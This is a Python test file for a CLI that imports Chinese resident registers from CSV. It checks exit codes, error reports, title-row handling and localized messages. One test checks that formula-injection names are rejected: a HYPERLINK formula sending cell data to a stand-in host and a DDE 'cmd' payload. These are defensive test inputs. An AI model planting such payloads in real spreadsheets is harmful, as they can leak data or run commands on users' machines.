"""`canvass import`: exit 0 imported, 1 refused with the report written, 2 usage or unreadable."""
from __future__ import annotations

from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import select

import main
from models.db.database import Database
from models.schema import Person
from tests.support.factories import make_place
from tests.support.registers import (
    HEADER,
    address_csv,
    fifty_doors,
    good_lines,
    register_counts,
    register_csv,
    titled_csv,
)


def _setup(database: Database) -> None:
    with database.sessions() as session:
        make_place(session)
        session.commit()


def test_imports_then_refuses_a_mangled_file_with_a_report(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    _setup(database)
    good = register_csv(tmp_path / "good.csv", good_lines(8))
    assert main.run(["--lang", "en", "--db", database_url, "import", str(good)]) == 0
    assert "8 persons" in capsys.readouterr().out
    before = register_counts(database)

    bad = register_csv(tmp_path / "bad.csv", [*good_lines(3, start=20),
                                              "王五,4.20102E+17,13800000000,永清社区,1,1,1,"])
    report = tmp_path / "problems.xlsx"
    assert main.run(["--lang", "en", "--db", database_url, "import", str(bad), "--report", str(report)]) == 1
    assert "nothing was written" in capsys.readouterr().err
    assert register_counts(database) == before
    rows = CalamineWorkbook.from_path(str(report)).get_sheet_by_index(0).to_python()
    assert rows[1][0] == 5 and rows[1][1] == "身份证号" and "Text" in rows[1][2]
    assert rows[1][3] == "4.20102E+17"

    assert main.run(["--lang", "en", "--db", database_url, "import", str(bad), "--skip-invalid", "--dry-run"]) == 0
    assert register_counts(database) == before
    assert main.run(["--lang", "en", "--db", database_url, "import", str(bad), "--skip-invalid"]) == 0
    assert register_counts(database)[0] == before[0] + 3


def test_an_address_only_register_makes_a_household_per_address(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 17: 50 persons at 50 addresses were "50 persons and 1 households added"."""
    _setup(database)
    path = address_csv(tmp_path / "addresses.csv", [*fifty_doors(), "不知道在哪"])
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path)]) == 0
    out = capsys.readouterr().out
    assert "51 persons and 51 households added" in out
    assert "1 addresses named no building, unit or door" in out
    assert (tmp_path / "addresses-report.xlsx").exists()


def test_a_dry_run_and_a_default_community(database: Database, database_url: str,
                                           tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _setup(database)
    lines = [line.replace("永清社区", "") for line in good_lines(4)]
    path = register_csv(tmp_path / "village.csv", lines, "utf-8")
    before = register_counts(database)
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path), "--dry-run"]) == 1
    capsys.readouterr()
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path), "--community", "C1",
                     "--dry-run"]) == 0
    assert "dry run" in capsys.readouterr().out
    assert register_counts(database) == before


def test_unreadable_files_exit_2_with_one_line(database_url: str, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    db = database_url
    assert main.run(["--lang", "en", "--db", db, "import", str(tmp_path / "nowhere.csv")]) == 2
    assert capsys.readouterr().err.strip().startswith("canvass: ")
    odd = tmp_path / "odd.csv"
    odd.write_text("a,b\n1,2\n", encoding="utf-8")
    assert main.run(["--lang", "en", "--db", db, "import", str(odd)]) == 2
    assert "no column found" in capsys.readouterr().err


def test_a_title_row_is_read_past_and_problems_speak_chinese(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 18: a register with a title above its column names was refused with exit 2; the
    report's sentences were English in a Chinese interface."""
    _setup(database)
    lines = [*good_lines(3), "王五,4.20102E+17,13800000000,永清社区,1,1,1,"]
    path = titled_csv(tmp_path / "titled.csv", lines)
    report = tmp_path / "titled-report.xlsx"
    assert main.run(["--lang", "zh", "--db", database_url, "import", str(path), "--dry-run"]) == 1
    captured = capsys.readouterr()
    assert "列名在第 3 行" in captured.out
    assert "第 7 行，身份证号：Excel 把这个身份证号变成了数字" in captured.out   # the sheet's row
    said = [line for line in captured.err.splitlines() if line.startswith("canvass: ")]
    assert len(said) == 1 and "文件被拒绝" in said[0]
    rows = CalamineWorkbook.from_path(str(report)).get_sheet_by_index(0).to_python()
    assert rows[0][:4] == ["行", "列", "问题", "值"]
    assert rows[1][:2] == [7, "身份证号"] and rows[1][2].startswith("Excel 把这个身份证号")
    assert rows[1][4] == "是"


def test_the_header_row_can_be_named(database: Database, database_url: str, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    _setup(database)
    path = titled_csv(tmp_path / "titled.csv", good_lines(4))
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path),
                     "--header-row", "1"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--header-row" in err and "row 1" in err
    assert err.startswith("canvass: ")
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path),
                     "--header-row", "3"]) == 0
    assert "4 persons" in capsys.readouterr().out
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path),
                     "--header-row", "99"]) == 2
    assert "no row 99" in capsys.readouterr().err


def test_formula_names_are_refused_per_row_and_a_header_only_file_is_exit_1(
        database: Database, database_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 21: names like =HYPERLINK(…) were imported (and exported to run in Excel); a
    header-only file "imported" 0 rows with exit 0."""
    _setup(database)
    formulas = ['=HYPERLINK("http://x/?"&C2,"点击")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
    lines = good_lines(5)
    lines[1:4] = [line.replace(line.split(",")[0], name, 1)
                  for line, name in zip(lines[1:4], formulas, strict=True)]
    path = register_csv(tmp_path / "formulas.csv", lines, "utf-8")
    before = register_counts(database)
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path)]) == 1
    out = capsys.readouterr().out
    assert out.count("A name cannot begin with = + - or @") == 3
    assert register_counts(database) == before
    assert main.run(["--lang", "en", "--db", database_url, "import", str(path),
                     "--skip-invalid"]) == 0
    assert "2 persons" in capsys.readouterr().out
    with database.sessions() as session:
        names = set(session.scalars(select(Person.name)))
    assert not any(name[0] in "=+-@" for name in names)

    header_only = tmp_path / "header.csv"
    header_only.write_text(HEADER + "\r\n", encoding="utf-8")
    counts = register_counts(database)
    assert main.run(["--lang", "en", "--db", database_url, "import", str(header_only)]) == 1
    captured = capsys.readouterr()
    assert captured.err == ("canvass: The file has column names on row 1 but no rows under "
                            "them: nothing was imported.\n")
    assert register_counts(database) == counts
